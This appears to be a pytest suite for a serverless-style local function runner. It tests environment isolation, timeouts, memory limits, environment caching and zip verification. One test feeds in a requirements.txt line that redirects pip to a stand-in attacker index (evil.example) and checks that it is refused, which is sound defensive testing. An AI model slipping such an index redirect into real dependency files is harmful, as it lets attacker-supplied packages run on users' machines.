"""The local runner, end to end on this machine: real subprocesses."""

import os
import pathlib
import threading
import time

import pytest

from pratai_bridge.runners import base
from pratai_bridge.runners.local import LocalRunner
from tests.unit.runners.helpers import limits
from tests.unit.runners.helpers import local_index
from tests.unit.runners.helpers import make_conf
from tests.unit.runners.helpers import make_function

ECHO = '''
import os, sys
def main(payload=None):
    print("to stdout")
    print("to stderr", file=sys.stderr)
    return {"echo": payload, "cwd": os.getcwd(), "env": dict(os.environ)}
'''
RAISE = '''
def helper():
    raise ValueError("boom")

def main(payload=None):
    helper()
'''
SLEEP = '''
import subprocess, sys, time
def main(payload=None):
    child = subprocess.Popen([sys.executable, "-c",
                              "import time; time.sleep(60)"])
    with open(payload["pidfile"], "w") as out:
        out.write(str(child.pid))
    print("going to sleep", file=sys.stderr, flush=True)
    time.sleep(60)
'''
MEMORY = '''
def main(payload=None):
    data = b"x" * (200 * 1024 * 1024)
    return len(data)
'''


@pytest.fixture
def runner(conf):
    return LocalRunner(conf)


def _prepared(runner, files, **kwargs):
    function, data = make_function(files, **kwargs)
    runner.prepare(function, data)
    return function


def test_success_returns_the_result_and_the_logs(runner, monkeypatch):
    monkeypatch.setenv('PRATAI_TEST_SECRET', 'hunter2')
    function = _prepared(runner, {'handler.py': ECHO})
    outcome = runner.run(function, {'event_type': 'x.y'}, limits())
    assert outcome.status == base.SUCCEEDED, outcome
    assert outcome.result['echo'] == {'event_type': 'x.y'}
    assert outcome.logs == 'to stdout\nto stderr\n'
    assert outcome.error is None
    assert 0 < outcome.duration < 5
    # An environment of its own: nothing of the bridge's.
    env = outcome.result['env']
    assert 'PRATAI_TEST_SECRET' not in env
    assert set(env) <= {'PATH', 'HOME', 'TMPDIR', 'LANG',
                        'MALLOC_ARENA_MAX', 'LC_CTYPE'}
    # Started in its temporary home, removed afterwards.
    assert outcome.result['cwd'] == env['HOME']
    assert not os.path.exists(env['HOME'])


def test_a_raising_function_fails_with_its_traceback(runner):
    function = _prepared(runner, {'handler.py': RAISE})
    outcome = runner.run(function, {}, limits())
    assert outcome.status == base.FAILED
    assert outcome.error.startswith('Traceback (most recent call last)')
    assert 'in helper' in outcome.error
    assert outcome.error.rstrip().endswith('ValueError: boom')


def test_timeout_kills_the_whole_process_group(runner, tmp_path):
    function = _prepared(runner, {'handler.py': SLEEP})
    pidfile = tmp_path / 'child.pid'
    started = time.monotonic()
    outcome = runner.run(function, {'pidfile': str(pidfile)},
                         limits(timeout_s=1.5))
    assert time.monotonic() - started < 5
    assert outcome.status == base.TIMEOUT
    assert outcome.error == 'timed out after 1.5 s; killed'
    assert outcome.logs == 'going to sleep\n'
    child = int(pidfile.read_text())
    deadline = time.monotonic() + 5
    while _alive(child) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not _alive(child), 'the function\'s child survived its timeout'


def _alive(pid):
    try:
        with open(f'/proc/{pid}/stat') as stat:
            return stat.read().split()[2] != 'Z'
    except FileNotFoundError:
        return False


def test_memory_over_the_limit_fails_out_of_memory(runner):
    function = _prepared(runner, {'handler.py': MEMORY})
    outcome = runner.run(function, {}, limits(memory_mb=64))
    assert outcome.status == base.FAILED
    assert outcome.error.startswith('out of memory (limit 64 MiB)')
    assert 'MemoryError' in outcome.error
    # The same function within a bigger limit succeeds.
    outcome = runner.run(function, {}, limits(memory_mb=512))
    assert (outcome.status, outcome.result) == (base.SUCCEEDED,
                                                200 * 1024 * 1024)


def test_runtime_errors_and_deaths_are_reported(runner):
    function = _prepared(runner, {'handler.py': ECHO, 'other.py': ECHO},
                         handler='other')
    assert runner.run(function, {}, limits()).status == base.SUCCEEDED
    exits = _prepared(runner, {'handler.py': 'import sys\n'
                               'def main(payload=None):\n    sys.exit(3)\n'})
    assert runner.run(exits, {}, limits()).status == base.FAILED
    dies = _prepared(runner, {'handler.py': 'import os\n'
                              'def main(payload=None):\n    os._exit(7)\n'})
    outcome = runner.run(dies, {}, limits())
    assert (outcome.status, outcome.error) == (
        base.FAILED, 'the function ended without a result (exit 7)')
    bad = _prepared(runner, {'handler.py': 'def main(payload=None):\n'
                             '    return float("nan")\n'})
    outcome = runner.run(bad, {}, limits())
    assert outcome.status == base.ERROR
    assert 'not JSON' in outcome.error


def test_prepare_is_cached_and_forget_drops_it(runner, conf):
    function, data = make_function({'handler.py': ECHO})
    runner.prepare(function, data)
    directory = runner.root / function.sha256
    marker = (directory / '.ready').stat().st_mtime_ns
    runner.prepare(function, data)
    assert (directory / '.ready').stat().st_mtime_ns == marker
    assert (directory / 'function' / 'handler.py').read_text() == ECHO
    runner.forget(function)
    assert not directory.exists()
    with pytest.raises(base.RunnerError, match='not prepared'):
        runner.run(function, {}, limits())


def test_concurrent_prepares_make_one_environment(runner, monkeypatch):
    function, data = make_function({'handler.py': ECHO})
    made = []
    real = runner._make

    def counting(*args):
        made.append(1)
        time.sleep(0.2)
        real(*args)

    monkeypatch.setattr(runner, '_make', counting)
    threads = [threading.Thread(target=runner.prepare, args=(function, data))
               for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert made == [1]
    assert runner.run(function, {}, limits()).status == base.SUCCEEDED


def test_an_unfinished_environment_is_made_again(runner):
    function, data = make_function({'handler.py': ECHO})
    (runner.root / function.sha256 / 'venv').mkdir(parents=True)
    runner.prepare(function, data)
    assert runner.run(function, {}, limits()).status == base.SUCCEEDED


def test_a_zip_that_is_not_the_stored_one_is_refused(runner):
    function, _ = make_function({'handler.py': ECHO})
    _, other = make_function({'handler.py': RAISE})
    with pytest.raises(base.RunnerError, match='not the one stored'):
        runner.prepare(function, other)
    assert not (runner.root / function.sha256).exists()


def test_requirements_are_installed_in_the_virtualenv(tmp_path,
                                                      monkeypatch):
    index = local_index(tmp_path / 'index')
    # Hermetic: this machine's pip configuration is left out.
    monkeypatch.setenv('PIP_CONFIG_FILE', os.devnull)
    monkeypatch.delenv('PIP_FIND_LINKS', raising=False)
    monkeypatch.delenv('PIP_EXTRA_INDEX_URL', raising=False)
    conf = make_conf(tmp_path, f'[builder]\npip_index_url = {index}\n')
    runner = LocalRunner(conf)
    function = _prepared(runner, {
        'handler.py': 'import pratai_tiny\ndef main(payload=None):\n'
                      '    return pratai_tiny.VALUE\n',
        'requirements.txt': '# the one dependency\npratai-tiny>=1.0\n'})
    outcome = runner.run(function, {}, limits())
    assert (outcome.status, outcome.result) == (base.SUCCEEDED, 42), outcome


def test_requirement_options_are_refused(runner):
    function, data = make_function({
        'handler.py': ECHO,
        'requirements.txt': '--index-url http://evil.example/simple\nsix\n'})
    with pytest.raises(base.RunnerError, match='line 1: pip options'):
        runner.prepare(function, data)



def test_filesystem_errors_while_preparing_are_runner_errors(tmp_path):
    (tmp_path / 'file').write_text('not a directory')
    runner = LocalRunner(make_conf(
        tmp_path, f'[runner]\nlocal_directory = {tmp_path}/file/runs\n'))
    function, data = make_function({'handler.py': 'def main(p=None): 1\n'})
    with pytest.raises(base.RunnerError, match='fn:1: cannot prepare'):
        runner.prepare(function, data)
    with pytest.raises(base.RunnerError, match='fn:1: cannot forget'):
        runner.forget(function)


def test_a_zip_failing_to_unpack_leaves_nothing(runner, monkeypatch):
    function, data = make_function({'handler.py': 'def main(p=None): 1\n'})

    def full(self, data):
        raise OSError(28, 'No space left on device')

    monkeypatch.setattr(pathlib.Path, 'write_bytes', full)
    with pytest.raises(base.RunnerError, match='No space left on device'):
        runner.prepare(function, data)
    monkeypatch.undo()
    assert not (runner.root / function.sha256).exists()
    runner.prepare(function, data)
    assert runner.run(function, {}, limits()).status == base.SUCCEEDED


def test_payload_and_result_bounds_hold_here_too(runner, conf):
    conf.set_override('max_payload_kb', 1, 'runner')
    conf.set_override('max_result_kb', 1, 'runner')
    function = _prepared(runner, {'handler.py': ECHO})
    with pytest.raises(base.PayloadTooLarge, match='over .runner. '
                       'max_payload_kb'):
        runner.run(function, {'x': 'y' * 2048}, limits())
    outcome = runner.run(function, {'x': 'y' * 900}, limits())
    assert (outcome.status, outcome.error) == (
        base.FAILED, 'the result is larger than 1024 bytes ([runner] '
        'max_result_kb): not kept')


def test_check_wants_a_directory_it_can_prepare_in(runner, tmp_path):
    runner.root = tmp_path / 'not-yet' / 'made'
    runner.probe()  # made on the first prepare: its parent will do
    (tmp_path / 'a-file').write_text('')
    runner.root = tmp_path / 'a-file' / 'runner'
    with pytest.raises(base.RunnerError, match='a-file is not a writable'):
        runner.probe()
